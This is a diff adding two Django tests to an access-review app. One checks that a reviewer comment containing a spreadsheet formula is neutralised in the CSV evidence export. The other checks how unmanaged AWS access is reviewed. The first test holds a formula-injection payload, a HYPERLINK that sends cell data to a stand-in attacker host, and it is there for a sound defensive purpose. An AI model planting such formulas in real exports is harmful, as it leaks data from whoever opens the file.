@@ -10,6 +10,7 @@ from django.urls import reverse
 from django.utils import timezone
 
 from access.models import Grant
+from iam.models import UnmanagedAccess
 from reviews import services
 from reviews.models import Campaign, ReviewItem
 
@@ -125,3 +126,47 @@ def test_the_evidence_pack_lists_every_decision_with_the_snapshot(cast, launched
     assert launched.population_hash in carol and ",revoke,left,bob@example.com," in carol
     assert ",pending,Erin Admin," in carol
     assert as_person(cast.bob).get(reverse("reviews:evidence", args=[launched.pk])).status_code == 403
+
+
+def test_a_comment_a_spreadsheet_would_run_as_a_formula_is_quoted_in_the_evidence(cast, launched):
+    item = ReviewItem.objects.get(holder=cast.carol)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    as_person(cast.bob).post(
+        reverse("reviews:decide", args=[launched.pk]), {"action": "revoke", "items": [item.pk], "comment": formula}
+    )
+
+    response = as_person(cast.erin).get(reverse("reviews:evidence", args=[launched.pk]))
+
+    carol = next(line for line in b"".join(response.streaming_content).decode().splitlines() if "carol@" in line)
+    assert ",\"'=HYPERLINK(" in carol and ',"=HYPERLINK(' not in carol
+
+
+def test_unmanaged_access_of_no_portal_person_is_a_line_like_the_others(cast, sandbox):
+    now = timezone.now()
+    UnmanagedAccess.objects.create(
+        account=sandbox.account,
+        kind="iam_group",
+        aws_principal="mallory",
+        aws_name="Developers",
+        entitlement=sandbox.developers,
+        first_seen=now,
+        last_seen=now,
+    )
+    campaign = Campaign.objects.create(
+        name="Drift", owner=cast.erin, fallback_reviewer=cast.dave, due_at=timezone.now() + timedelta(days=14)
+    )
+    services.launch(campaign_id=campaign.pk, actor=cast.erin)
+    carol = as_person(cast.carol)
+
+    page = carol.get(reverse("reviews:queue", args=[campaign.pk])).content.decode()
+    assert 'data-testid="item-mallory-Developers"' in page and "AWS principal, no portal person" in page
+    assert "Unmanaged: in AWS with no grant" in page
+    item = ReviewItem.objects.get(campaign=campaign)
+    carol.post(
+        reverse("reviews:decide", args=[campaign.pk]), {"action": "revoke", "items": [item.pk], "comment": "unknown"}
+    )
+    as_person(cast.erin).post(reverse("reviews:sign_off", args=[campaign.pk]))
+
+    summary = as_person(cast.erin).get(reverse("reviews:campaign", args=[campaign.pk])).content.decode()
+    assert 'data-testid="revoked-mallory"' in summary and "Removal pending" in summary
+    assert "1 items (1 unmanaged: in AWS with no grant)" in summary
